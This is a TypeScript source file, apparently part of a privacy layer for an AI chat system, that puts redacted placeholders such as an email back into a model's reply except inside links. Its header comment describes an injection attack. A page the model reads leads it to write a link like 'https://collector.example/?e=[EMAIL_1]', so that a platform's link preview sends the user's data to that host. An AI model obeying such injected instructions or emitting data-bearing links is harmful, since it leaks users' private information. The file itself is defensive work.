/**
 * Placeholders inside a link are not put back into a reply. A link to another host carries what
 * it holds there, and a chat platform fetches the link for its preview: a model, told by a page
 * it read, that writes `https://collector.example/?e=[EMAIL_1]` would otherwise have the user's
 * own address sent to that host by the platform, with no click.
 */

import { PLACEHOLDER } from "./sanitize.ts";

/** How far back a link's start is looked for; a longer run of non-space text counts as a link. */
const LINK_REACH = 4096;

/**
 * Whether `offset` of `text` stands inside a link: the run of non-space characters it ends holds
 * a scheme's `://` or starts a `www.` name.
 */
export function insideLink(text: string, offset: number): boolean {
  let start = offset;
  const limit = Math.max(0, offset - LINK_REACH);
  while (start > limit && !/\s/.test(text[start - 1])) start--;
  if (start === limit && limit > 0) return true;
  const run = text.slice(start, offset);
  return /[a-z][a-z0-9+.-]*:\/\//i.test(run) || /(?:^|[(<["'])www\./i.test(run);
}

/**
 * `text` with each placeholder outside a link put back by `restore` (a vault's). `before` is the
 * text that came just before it in the same reply (a stream's earlier chunks), where a link that
 * `text` continues may have begun.
 *
 * @example
 * ```ts
 * import { restoreOutsideLinks } from "./restore_links.ts";
 * const restore = (p: string) => p === "[EMAIL_1]" ? "ada@example.org" : p;
 * console.log(restoreOutsideLinks("mail [EMAIL_1] or see https://x.example/?e=[EMAIL_1]", restore));
 * // "mail ada@example.org or see https://x.example/?e=[EMAIL_1]"
 * ```
 */
export function restoreOutsideLinks(
  text: string,
  restore: (placeholder: string) => string,
  before = "",
): string {
  const context = before.slice(-LINK_REACH);
  const full = context + text;
  return text.replace(
    PLACEHOLDER,
    (placeholder, offset: number) =>
      insideLink(full, context.length + offset) ? placeholder : restore(placeholder),
  );
}
